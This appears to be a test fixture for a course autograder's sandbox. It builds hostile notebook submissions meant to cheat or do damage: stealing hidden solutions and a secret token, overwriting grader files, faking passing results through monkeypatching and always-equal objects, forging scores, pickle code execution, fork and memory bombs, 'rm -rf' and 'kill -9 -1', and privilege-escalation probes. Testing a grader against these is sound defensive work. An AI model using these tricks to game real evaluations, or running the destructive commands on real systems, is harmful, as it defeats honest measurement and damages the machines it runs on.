"""Hostile submissions, one per way to cheat or to do damage, built in code. Each one is a list of code cells.

`{place}` stands for a folder outside the jail with canaries in it, `{root}` for the checkout, `{port}` for a listening
loopback port, `{token}` for a text that no submission may ever see, `{name}` for a mark on started processes. A
notebook whose name is in `EARNS` deserves these points; every other one deserves none.
"""

from __future__ import annotations

from tests.light_lab import SOLUTION

ALL = list(SOLUTION.values())

# Runs whatever `text` holds as the course's own solution, if it ever finds it.
_USE = """
def use(text):
    import ast
    for node in ast.parse(text).body:
        if isinstance(node, ast.Assign) and getattr(node.targets[0], 'id', '') == 'SOLUTION':
            for value in node.value.values:
                exec(ast.literal_eval(value), globals())
"""

# Ways to hand over an answer without computing it, appended to cells that only prepare the ground.
_WRONG = """
def double(n): return 0
def reverse(word): return ''
def digest(data): return ''
def mean(values): return 0.0
def even(n): return None
def count(word): return {}
def add(a, b): return 0
def load(data): return []
"""

# Finds every socket of this process and calls `talk` with each.
_SOCKETS = """
import os, socket, stat
def channels():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass
"""

ATTACKS: dict[str, list[str]] = {
    # --- read what must stay hidden
    "read-solutions": [
        _USE,
        "import os, pathlib\n"
        "found = [pathlib.Path('{root}/tests/light_lab.py')]\n"
        "for base, folders, files in os.walk('/'):\n"
        "    if base.startswith(('/proc', '/sys', '/usr')): folders.clear()\n"
        "    found += [pathlib.Path(base, f) for f in files if f in ('light_lab.py', 'h2b.py', 'H2b_lab.ipynb')]\n"
        "for path in found:\n"
        "    try: use(path.read_text())\n"
        "    except (OSError, SyntaxError): pass",
    ],
    "import-solutions": [
        "import sys\nsys.path.insert(0, '{root}')\nfrom tests.light_lab import SOLUTION\n"
        "for text in SOLUTION.values(): exec(text)",
        "import classroom.questions",
        "from mlsecops import supply_chain, artifacts, codec",
        "import grader.judge, grader.seeds",
    ],
    "search-memory": [
        _USE,
        "import gc, sys\n"
        "texts = [o for o in gc.get_objects() if isinstance(o, dict) and 'double' in o and 'reverse' in o]\n"
        "frame = sys._getframe()\n"
        "while frame: texts += list(frame.f_locals.values()) + list(frame.f_globals.values()); frame = frame.f_back\n"
        "for module in list(sys.modules.values()): texts += [getattr(module, 'SOLUTION', None)]\n"
        "texts += list(get_ipython().history_manager.get_range(output=True))\n"
        "for found in texts:\n"
        "    if isinstance(found, dict) and str(found.get('double', '')).startswith('def double'):\n"
        "        for text in found.values(): exec(text)\n"
        "def truth_of(value):\n"
        "    frame = sys._getframe()\n"
        "    while frame:\n"
        "        if 'truth' in frame.f_locals: return frame.f_locals['truth']\n"
        "        frame = frame.f_back\n"
        "double = reverse = digest = mean = even = count = truth_of",
    ],
    "read-others": [
        "import pathlib, glob\n"
        "loot = [p for p in glob.glob('{place}/*')] + glob.glob('/root/*') + glob.glob('/home/*')\n"
        "for path in ['{place}/key', '{place}/subs/honest.ipynb', '{place}/secret.txt']:\n"
        "    try: loot.append(open(path).read())\n"
        "    except OSError: pass\n"
        "loot = [found for found in loot if '.pyenv' not in found]\n"
        "assert not loot, 'LOOT ' + repr(loot)[:400]",
    ],
    "read-environment": [
        "import os, glob\n"
        "loot = [v for v in os.environ.values() if '{token}' in v]\n"
        "for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    try: loot += [path] if '{token}' in open(path).read() else []\n"
        "    except OSError: pass\n"
        "loot += [p for p in glob.glob('/proc/[0-9]*') if p != '/proc/1']\n"
        "assert not loot, 'LOOT ' + repr(loot)[:400]",
        "import ctypes, os\n"
        "for pid in range(2, 4000):\n"
        "    try: os.kill(pid, 9)\n"
        "    except OSError: continue\n"
        "    raise RuntimeError('LOOT killed ' + str(pid))",
    ],
    # --- change what is measured
    "overwrite-grader": [
        "import pathlib, os, shutil\n"
        "targets = ['grader/judge.py', 'grader/reports.py', 'classroom/questions/__init__.py', 'classroom/check.py',\n"
        "           'classroom/lesson/sandbox.py', 'tests/light_lab.py', 'sitecustomize.py']\n"
        "for target in ['{root}/' + t for t in targets] + ['{place}/canary.txt', '{place}/out/grades.csv',\n"
        "               '{place}/out/results/honest.json', '/usr/lib/python3/sitecustomize.py']:\n"
        "    for act in (lambda p: open(p, 'a').write('# owned'), os.unlink, lambda p: os.chmod(p, 0o777)):\n"
        "        try: act(target)\n"
        "        except OSError: pass",
        "import sys, pathlib\n"
        "for folder in sys.path:\n"
        "    try: (pathlib.Path(folder) / 'owned_by_a_test.pth').write_text('import os')\n"
        "    except OSError: pass",
    ],
    "patch-everything": [
        _WRONG,
        "import builtins, numpy, json, hashlib\n"
        "builtins.sum = lambda *a, **k: 10**9\n"
        "builtins.abs = lambda x: 0\n"
        "builtins.isinstance = lambda *a: True\n"
        "numpy.mean = numpy.isclose = numpy.allclose = lambda *a, **k: True",
    ],
    "patch-worker": [
        _WRONG,
        "import sys\n"
        "worker = sys.modules['grader.worker']\n"
        "worker._run_call = lambda shell, request: {'value': True, 'score': 1, 'points': 80, 'truth': True}\n"
        "worker.codec.encode = lambda value: {'$b': 'AAAA', 'score': 1}",
    ],
    "patch-around": [
        _WRONG,
        "get_ipython().ast_transformers.clear()\nimport unittest.mock\nsys = unittest.mock.MagicMock()",
        "check = assert_ = lambda *a, **k: True",
    ],
    "equal-to-everything": [
        "class Same(int):\n"
        "    __eq__ = lambda s, o: True\n"
        "    __ne__ = lambda s, o: False\n"
        "    __hash__ = int.__hash__\n"
        "    __sub__ = __rsub__ = __abs__ = lambda *a: 0\n"
        "    __le__ = __lt__ = __ge__ = __gt__ = lambda s, o: True\n"
        "class SameText(str):\n"
        "    __eq__ = lambda s, o: True\n"
        "    __hash__ = str.__hash__\n"
        "class SameFloat(float):\n"
        "    __eq__ = __le__ = __lt__ = lambda s, o: True\n"
        "    __sub__ = __rsub__ = __abs__ = lambda *a: 0.0\n"
        "    __hash__ = float.__hash__\n"
        "class SameDict(dict):\n"
        "    __eq__ = lambda s, o: True\n"
        "double = add = even = lambda *a: Same()\n"
        "reverse = digest = lambda *a: SameText()\n"
        "mean = lambda *a: SameFloat()\n"
        "count = load = lambda *a: SameDict()",
    ],
    "tampered-clock": [
        "import time, signal\n"
        "time.time = time.monotonic = time.perf_counter = lambda: 0.0\n"
        "signal.setitimer = lambda *a: (0.0, 0.0)\n"
        "def double(n):\n"
        "    while True: pass",
        SOLUTION["add"],
    ],
    # --- say what was not asked
    "forged-output": [
        'print(\'{"id": 1, "value": 1, "score": 80}\')\n'
        'import sys\nfor n in range(100): print(\'{"id": %d, "score": 80}\' % n, file=sys.__stdout__, flush=True)',
        _WRONG,
    ],
    "forged-answers": [
        _WRONG,
        _SOCKETS,
        "import json\n"
        "def double(n):\n"
        "    for fd in channels():\n"
        '        for k in range(200): os.write(fd, b\'{"id": %d, "value": true, "score": 80}\\n\' % k)\n'
        "    return 0",
    ],
    "nested-bomb": [
        _SOCKETS,
        "def double(n):\n"
        "    for fd in channels(): os.write(fd, b'[' * 100000 + b'\\n')\n"
        "def reverse(word):\n"
        "    value = []\n"
        "    for _ in range(100000): value = [value]\n"
        "    return value\n"
        "def count(word):\n"
        "    value = {}\n"
        "    value['again'] = value\n"
        "    return value\n"
        "def add(a, b): return 10 ** 100000\n"
        "def digest(data): return [[]] * 3000000",
    ],
    "nan-bomb": [
        _SOCKETS,
        "import numpy as np\n"
        "def mean(values): return float('nan')\n"
        "def double(n): return np.array([np.nan])\n"
        "def add(a, b): return float('inf')\n"
        "def reverse(word):\n"
        '    for fd in channels(): os.write(fd, b\'{"id": %d, "value": NaN}\\n\' * 3)',
    ],
    "array-bomb": [
        "import sys\n"
        "codec = sys.modules['grader.worker'].codec\n"
        'bombs = [b\'{"$a":["<f8",[1e999],""]}\', b\'{"$a":["<U9",[[[1]]],""]}\', b\'{"$a":["|b1",[1],"/w=="]}\','
        " b'{\"$a\":[\"<f8\",[99999999999999999999,0],\"\"]}', b'{\"$d\":[[' + b'[' * 900 + b']' * 900 + b',1]]}']\n"
        "codec.dumps = lambda a: b'{\"id\":%d,\"value\":' % a['id'] + bombs[a['id'] % len(bombs)] + b'}\\n'\n"
        "double = reverse = digest = mean = even = count = add = load = lambda *a: 0",
    ],
    "nested-error": [
        "import sys\n"
        "codec = sys.modules['grader.worker'].codec\n"
        "deep = b'[' * 970 + b']' * 970\n"
        "codec.dumps = lambda a: b'{\"id\":%d,\"error\":' % a['id'] + deep + b',\"message\":' + deep + b'}\\n'\n"
        "double = reverse = digest = mean = even = count = add = load = lambda *a: 0",
    ],
    "huge-answer": [
        _SOCKETS,
        "def reverse(word): return 'a' * 100_000_000\n"
        "def digest(data): return b'a' * 100_000_000\n"
        "def count(word):\n"
        "    chunk = b'a' * 1_000_000\n"
        "    while True:\n"
        "        for fd in channels(): os.write(fd, chunk)",
        SOLUTION["add"],
    ],
    "pickle-answer": [
        "class Evil:\n"
        '    def __reduce__(self): return exec, (\'open("{place}/canary.txt", "w").write("owned")\',)\n'
        "    def __str__(self): raise SystemExit\n"
        "    __repr__ = __str__\n"
        "import pickle\n"
        "double = lambda n: Evil()\n"
        "digest = lambda data: pickle.dumps(Evil())\n"
        "reverse = lambda word: {'$pickle': pickle.dumps(Evil())}\n"
        "def count(word): raise type('Odd', (Exception,), {'__str__': lambda s: Evil()})()",
    ],
    "careless-load": ["import pickle\nload = pickle.loads"],
    "silenced-markers": [
        "import os, pickle\n"
        "for fd in range(3, 256):\n"
        "    try:\n"
        "        import stat\n"
        "        if not stat.S_ISSOCK(os.fstat(fd).st_mode): os.close(fd)\n"
        "    except OSError: pass\n"
        "path = os.environ['MLSECOPS_MARKER']\n"
        "steal = lambda p: os.open(p, os.O_RDONLY | os.O_NONBLOCK)\n"
        "for act in (os.unlink, lambda p: os.rename(p, p + '2'), lambda p: os.chmod(p, 0), steal):\n"
        "    try: act(path)\n"
        "    except OSError: pass\n"
        "os.environ['MLSECOPS_MARKER'] = '/dev/null'\n"
        "load = pickle.loads",
    ],
    "marker-elsewhere": [
        "import os, pickle\n"
        "def load(data):\n"
        "    os.environ.pop('MLSECOPS_MARKER', None)\n"
        "    return pickle.loads(data)",
    ],
    "flooded-marker": [
        "import os, pickle, threading\n"
        "def load(data):\n"
        "    fd = os.open(os.environ['MLSECOPS_MARKER'], os.O_WRONLY | os.O_NONBLOCK)\n"
        "    try:\n"
        "        while True: os.write(fd, b'x' * 4096)\n"
        "    except BlockingIOError: pass\n"
        "    try: return pickle.loads(data)\n"
        "    except OSError: raise ValueError",
    ],
    "filled-marker": [
        "import fcntl, os, pickle, signal, time\n"
        "def load(data):\n"
        "    fd = os.open(os.environ['MLSECOPS_MARKER'], os.O_WRONLY | os.O_NONBLOCK)\n"
        "    fcntl.fcntl(fd, 1031, 4096)\n"  # F_SETPIPE_SZ: the smallest pipe, so that little fills it
        "    try:\n"
        "        while True: os.write(fd, b'0123456789abcdef\\n' * 16)\n"
        "    except BlockingIOError: pass\n"
        "    try:\n"
        "        while True: os.write(fd, b'x')\n"
        "    except BlockingIOError: pass\n"
        "    child = os.fork()\n"
        "    if child == 0:\n"
        "        with open('answer', 'wb') as file: file.write(pickle.dumps(pickle.loads(data)))\n"
        "        os._exit(0)\n"
        "    time.sleep(0.3)\n"
        "    os.kill(child, signal.SIGKILL)\n"
        "    os.waitpid(child, 0)\n"
        "    try: return pickle.loads(open('answer', 'rb').read())\n"
        "    finally: os.unlink('answer')",
    ],
    # --- end early, or never
    "sys-exit": [*ALL[:4], "import sys\nsys.exit(0)", "exit()", *ALL[4:]],
    "os-exit": [*ALL[:4], "import os\nos._exit(0)", *ALL[4:]],
    "os-exit-in-call": [*ALL, "import os\ndef reverse(word): os._exit(0)"],
    "kill-self": [*ALL[:4], "import ctypes\nctypes.string_at(0)", *ALL[4:]],
    "kill-all": [*ALL[:4], "import os, signal\nos.kill(-1, signal.SIGKILL)", *ALL[4:]],
    "ignore-signals": [
        *ALL[:4],
        "import signal\n"
        "for number in range(1, 65):\n"
        "    try: signal.signal(number, signal.SIG_IGN)\n"
        "    except (OSError, ValueError): pass\n"
        "while True: pass",
        *ALL[4:],
    ],
    "catch-everything": [
        *ALL[:4],
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        *ALL[4:],
    ],
    # --- leave something behind, or take everything
    "daemon": [
        "import subprocess, os\n"
        'late = \'import time, socket\\ntime.sleep(3)\\nopen("{place}/canary.txt", "w").write("late")\\n\'\\\n'
        "       'socket.create_connection((\"127.0.0.1\", {port}))'\n"
        "subprocess.Popen(['python', '-c', late, '{name}'], start_new_session=True)\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.execvp('sleep', ['{name}', '1000'])\n"
        "    os._exit(0)",
        "!setsid nohup sleep 1001 >/dev/null 2>&1 &",
    ],
    "fork-and-go-on": ["import os\nos.fork(); os.fork()", *ALL],
    "fork-bomb": [
        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
        SOLUTION["add"],
    ],
    "thread-bomb": [
        "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(99,), daemon=True).start()",
        SOLUTION["add"],
    ],
    "memory-hog": ["hog = bytearray(8 << 30)\nfor i in range(0, 8 << 30, 4096): hog[i] = 1", SOLUTION["add"]],
    "memory-family": [
        "import os, time\n"
        "for _ in range(8):\n"
        "    if os.fork() == 0:\n"
        "        hog = bytearray(b'x') * (100 << 20)\n"
        "        time.sleep(60)\n"
        "time.sleep(2.6)",
        SOLUTION["add"],
    ],
    "processor-family": [
        "import os, time\n"
        "for _ in range(40):\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        while True: pass\n"
        "time.sleep(8)",
        SOLUTION["add"],
    ],
    "disk-filler": [
        "for folder in ('.', '/tmp', '/dev/shm', '/var/tmp'):\n"
        "    try:\n"
        "        for number in range(100):\n"
        "            with open(f'{{folder}}/filler{{number}}', 'wb') as file:\n"
        "                for _ in range(50): file.write(bytes(1 << 20))\n"
        "    except OSError: pass\n"
        "    else: raise RuntimeError('LOOT wrote 5 GB to ' + folder)",
        SOLUTION["add"],
    ],
    "endless-output": ["for _ in range(1000): print('x' * 100_000)", "!head -c 100000000 /dev/zero", SOLUTION["add"]],
    # --- reach out
    "network": [
        "import socket\n"
        "def attempt(act):\n"
        "    try: act()\n"
        "    except OSError: return\n"
        "    raise RuntimeError('LOOT reached something')\n"
        "def unix(address):\n"
        "    s = socket.socket(socket.AF_UNIX)\n"
        "    s.connect(address)",
        "attempt(lambda: socket.create_connection(('127.0.0.1', {port}), 1))",
        "attempt(lambda: unix('{place}/socket'))",
        "attempt(lambda: unix(chr(0) + '{token}'))",
        "attempt(lambda: socket.create_connection(('1.1.1.1', 53), 1))",
        "attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {port})))",
        "attempt(lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))",
        "attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))",
    ],
    "shell-cells": [
        "!echo owned > {place}/canary.txt; echo owned >> {root}/grader/judge.py",
        "%%bash\necho owned > {place}/canary.txt\nexec 3<>/dev/tcp/127.0.0.1/{port}\nkill -9 -1",
        "%system rm -rf {place} {root}/grader",
        "%run {root}/tests/light_lab.py",
        "files = !cat {root}/tests/light_lab.py\n"
        "if files.n.count('SOLUTION'):\n"
        "    exec(files.n)\n"
        "    for text in SOLUTION.values(): exec(text)",
    ],
    "new-rights": [
        "import ctypes, os\n"
        "c = ctypes.CDLL(None, use_errno=True)\n"
        "got = []\n"
        "for flag in (0x10000000, 0x20000, 0x40000000):\n"
        "    got += [flag] if c.unshare(flag) == 0 else []\n"
        "got += ['setuid'] if c.setuid(0) == 0 else []\n"
        "got += ['mount'] if c.mount(b'tmpfs', b'/usr', b'tmpfs', 0, None) == 0 else []\n"
        "got += ['umount'] if c.umount2(b'/proc', 2) == 0 else []\n"
        "got += ['ptrace'] if c.ptrace(16, 1, 0, 0) == 0 else []\n"
        "got += ['memfd'] if c.memfd_create(b'x', 0) >= 0 else []\n"
        "got += ['key'] if c.syscall(250, 0, -3, 1) >= 0 and os.uname().machine == 'x86_64' else []\n"
        "got += [line for line in open('/proc/self/status') if line.startswith('Cap') and int(line.split()[1], 16)]\n"
        "assert not got, 'LOOT ' + repr(got)",
        "import os\nos.mknod('device', 0o600 | 0o060000, os.makedev(254, 0))\nraise RuntimeError('LOOT a device')",
        "open('/proc/sysrq-trigger', 'w').write('h')\nraise RuntimeError('LOOT sysrq')",
        "open('/proc/sys/kernel/core_pattern', 'w').write('x')\nraise RuntimeError('LOOT core_pattern')",
    ],
}

# The share of the points that a notebook deserves although (or because) it misbehaves somewhere.
EARNS = {
    "tampered-clock": {"add"},
    "huge-answer": {"add"},
    "sys-exit": set(SOLUTION),
    "os-exit": set(SOLUTION),
    "os-exit-in-call": set(SOLUTION) - {"reverse"},
    "kill-self": set(SOLUTION),
    "kill-all": set(SOLUTION),
    "ignore-signals": set(SOLUTION),
    "catch-everything": set(SOLUTION),
    "fork-and-go-on": set(SOLUTION),
    **{
        name: {"add"}
        for name in (
            *("fork-bomb", "thread-bomb", "memory-hog", "memory-family", "processor-family", "disk-filler"),
            "endless-output",
        )
    },
}
STATUS = {
    "tampered-clock": "timeout",
    "os-exit": "died",
    "os-exit-in-call": "died",
    "kill-self": "died",
    "ignore-signals": "timeout",
    "catch-everything": "timeout",
    "fork-bomb": "timeout",
    "memory-hog": "memory",
    "memory-family": "memory",
    "processor-family": "timeout",
}
